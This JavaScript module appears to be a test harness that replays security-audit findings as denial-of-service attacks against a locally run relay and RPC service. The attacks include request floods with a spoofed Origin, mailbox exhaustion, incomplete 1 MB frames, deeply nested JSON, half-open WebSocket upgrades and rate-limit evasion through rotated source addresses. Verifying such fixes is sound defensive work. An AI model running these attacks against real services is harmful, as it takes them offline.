import { randomBytes } from 'node:crypto'
import { connect as connectTcp } from 'node:net'
import { setImmediate as nextTurn, setTimeout as sleep } from 'node:timers/promises'
import { connect, nextId } from './client.mjs'
import { makeFrame, openRaw } from './frames.mjs'
import { createHttpClient } from './http.mjs'
import { createKey, createToken } from './token.mjs'

export const chain = 'eip155:31337'
export const origin = 'https://app.example'
export const project = 'honest'

const newTopic = () => randomBytes(32).toString('hex')
const text = bytes =>
  randomBytes(Math.ceil((bytes * 3) / 4))
    .toString('base64')
    .slice(0, bytes)

/**
 * Repeats `work` in `width` loops until the attack is over. What is refused or cut off is tried again. Each turn waits for
 * I/O: where the loops need longer than they sleep, timers are due without end, and the process would neither write to its
 * sockets nor read that the attack is over.
 */
async function repeat({ isOver, counts }, width, work) {
  const loop = async at => {
    while (!isOver()) {
      await nextTurn()
      try {
        await work(at)
      } catch {
        counts.failed += 1
        await sleep(20)
      }
    }
  }
  await Promise.all(Array.from({ length: width }, (_, at) => loop(at)))
}

const isAccepted = ({ status }) => status < 400

/** Repeats one HTTP request. */
async function flood(attack, { width, method, path, make, headers, localAddresses }) {
  const { base, localAddress, counts } = attack
  const clients = (localAddresses ?? [localAddress]).map(each =>
    createHttpClient(base, { localAddress: each, sockets: width }),
  )
  await repeat(attack, width, async at => {
    const client = clients[counts.sent % clients.length]
    counts.sent += 1
    const reply = await client.send(method, path, { body: make?.(at), headers })
    counts[isAccepted(reply) ? 'accepted' : 'refused'] += 1
    // A refusal costs the attacker nothing, so it does not slow down either.
  })
  for (const client of clients) client.close()
}

const event = () => ({
  eventId: 'a',
  url: '',
  domain: '',
  timestamp: 1,
  props: { type: 'track', event: 'FLOOD', properties: { filler: text(15_000) } },
})

/** Writes a frame past the client's promises. */
const post = (client, method, params) =>
  client.socket.send(JSON.stringify({ id: nextId(), jsonrpc: '2.0', method, params }))

/** Opens connections one after the other, patiently: the rate of connections is limited too. */
async function openMany({ url, localAddress, isOver }, count, options = () => ({})) {
  const clients = []
  while (clients.length < count && !isOver()) {
    const client = await connect(url, { localAddress, ...options(clients.length) }).catch(() => sleep(50))
    if (client) clients.push(client)
  }
  return clients
}

/** Counts replies instead of waiting for them. */
function count(client, counts) {
  client.socket.removeAllListeners('message')
  client.socket.on('message', data => {
    counts[data.includes('"error"') ? 'refused' : 'accepted'] += 1
  })
  client.closed.then(() => {
    counts.closed += 1
  })
}

/** What the security audit found, each as a function that attacks until `isOver()`. */
export const attacks = {
  /** Security 1: events with a copied Origin. */
  async analytics(attack) {
    const body = JSON.stringify(Array.from({ length: 16 }, event))
    await flood(attack, { width: 4, method: 'POST', path: '/e', make: () => body, headers: { origin } })
  },

  /** Security 2: fresh keys fill the mailbox, and a second key acknowledges what the first has stored. */
  async mailbox(attack) {
    const { url, localAddress, counts } = attack
    await repeat(attack, 4, async () => {
      const topic = newTopic()
      const reader = await connect(url, { localAddress })
      const publisher = await connect(url, { localAddress })
      await reader.request('irn_subscribe', { topic })
      try {
        for (let each = 0; each < 12; each++) {
          counts.sent += 1
          await publisher.publish(topic, text(500_000), { ttl: 86_400 })
          counts.accepted += 1
        }
      } catch (error) {
        counts.refused += 1
        if (error.code === -32002) await sleep(20)
      } finally {
        publisher.socket.terminate()
        reader.socket.terminate()
      }
    })
  },

  /** Security 3: 450 readers that do not read, on one topic. */
  async fanOut(attack) {
    const topic = newTopic()
    const keys = Array.from({ length: 10 }, createKey)
    const readers = await openMany(attack, 450, at => ({ key: keys[at % keys.length], acknowledge: false }))
    for (const reader of readers) {
      count(reader, { accepted: 0, refused: 0, closed: 0 })
      post(reader, 'irn_subscribe', { topic })
      reader.socket.pause()
    }
    const [publisher] = await openMany(attack, 1)
    await repeat(attack, 1, async () => {
      if (publisher.hasClosed()) return sleep(100)
      attack.counts.sent += 1
      await publisher.publish(topic, text(1_000_000), { ttl: 60 }).then(
        () => {
          attack.counts.accepted += 1
        },
        async () => {
          attack.counts.refused += 1
          await sleep(50)
        },
      )
    })
    for (const { socket } of [...readers, publisher]) socket.terminate()
  },

  /** Security 4: 300 messages of 1 MB less one byte. */
  async unfinished(attack) {
    const { port, audience, localAddress, counts } = attack
    const token = createToken(createKey(), audience)
    const tokens = Array.from({ length: 10 }, () => createToken(createKey(), audience))
    const part = makeFrame({ payload: Buffer.alloc(1_048_575, 0x20), claimedLength: 1_048_576 })
    const open = new Set()
    await repeat(attack, 20, async at => {
      if (open.size >= 300) return sleep(50)
      const raw = await openRaw(port, tokens[at % tokens.length] ?? token, { localAddress })
      open.add(raw)
      counts.sent += 1
      raw.socket.once('close', () => {
        counts.closed += 1
        open.delete(raw)
      })
      raw.socket.on('error', () => {})
      raw.socket.write(part)
    })
    for (const { socket } of open) socket.destroy()
  },

  /** Security 5: small batches with large responses. */
  async batch(attack) {
    const body = JSON.stringify(
      Array.from({ length: 100 }, (_, id) => ({ jsonrpc: '2.0', id, method: 'eth_getLogs', params: [{}] })),
    )
    await flood(attack, { width: 8, method: 'POST', path: `/v1?chainId=${chain}`, make: () => body })
  },

  /** Security 6: requests that cannot be served, deeply nested ones and those that the node refuses. */
  async breaker(attack) {
    const nested = `${'['.repeat(8_000)}${']'.repeat(8_000)}`
    const bodies = [nested, '[]'].map(
      params => `{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[${params}]}`,
    )
    await flood(attack, {
      width: 8,
      method: 'POST',
      path: `/v1?chainId=${chain}`,
      make: at => bodies[at % bodies.length],
    })
  },

  /** Security 12: 1,500 fetches of a mailbox of 1 MB at once. */
  async fetches(attack) {
    const topic = newTopic()
    const clients = await openMany(attack, 50)
    const [publisher] = await openMany(attack, 1)
    for (let each = 0; each < 10; each++)
      await publisher.publish(topic, text(100_000), { ttl: 300 }).catch(() => {})
    for (const client of clients) count(client, attack.counts)
    await repeat(attack, 1, async () => {
      for (const client of clients)
        if (!client.hasClosed())
          for (let each = 0; each < 30; each++) {
            attack.counts.sent += 1
            post(client, 'irn_fetchMessages', { topic })
          }
      await sleep(100)
    })
    for (const { socket } of [...clients, publisher]) socket.terminate()
  },

  /** Security 14: a stranger without an Origin uses up the quota of a project. */
  async project(attack) {
    const { localAddress, isStrong } = attack
    const prefix = localAddress.slice(0, localAddress.lastIndexOf('.'))
    await flood(attack, {
      width: 16,
      method: 'GET',
      path: `/getWallets?projectId=${project}&entries=1`,
      localAddresses: isStrong
        ? Array.from({ length: 200 }, (_, at) => `${prefix}.${at + 20}`)
        : [localAddress],
    })
  },

  /** Security 16: upgrades that are refused, by a peer that keeps its side open. */
  async upgrades(attack) {
    const { port, localAddress, counts, audience, isStrong } = attack
    const sockets = new Set()
    await repeat(attack, 10, async () => {
      if (sockets.size >= 400) return sleep(50)
      const socket = connectTcp({ port, host: '127.0.0.1', localAddress, allowHalfOpen: true })
      socket.on('error', () => {})
      sockets.add(socket)
      counts.sent += 1
      const token = isStrong ? createToken(createKey(), audience) : 'forged'
      socket.write(
        `GET /relay?auth=${token} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
          `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n\r\n`,
      )
      await sleep(30)
    })
    // Held until the figures are taken.
    await attack.released
    for (const socket of sockets) socket.destroy()
  },

  /** Security 17: as many subscriptions as are let in. */
  async subscriptions(attack) {
    const clients = await openMany(attack, 40)
    for (const client of clients) count(client, attack.counts)
    await repeat(attack, clients.length, async at => {
      if (clients[at].hasClosed()) [clients[at]] = await openMany(attack, 1)
      const topics = Array.from({ length: 500 }, newTopic)
      attack.counts.sent += 500
      post(clients[at], 'irn_batchSubscribe', { topics })
      await sleep(10)
    })
    await attack.released
    for (const client of clients) client?.socket.terminate()
  },

  /** Security 28: responses without a request, 20 times as many as are allowed. */
  async responses(attack) {
    const [client] = await openMany(attack, 1)
    let current = client
    count(current, attack.counts)
    const burst = Buffer.concat(
      Array.from({ length: 40 }, () => makeFrame({ payload: '{"id":1,"jsonrpc":"2.0","result":true}' })),
    )
    await repeat(attack, 1, async () => {
      if (current.hasClosed()) {
        ;[current] = await openMany(attack, 1)
        count(current, attack.counts)
      }
      current.socket._socket.write(burst)
      attack.counts.sent += 40
      await sleep(10)
    })
    current?.socket.terminate()
  },
}
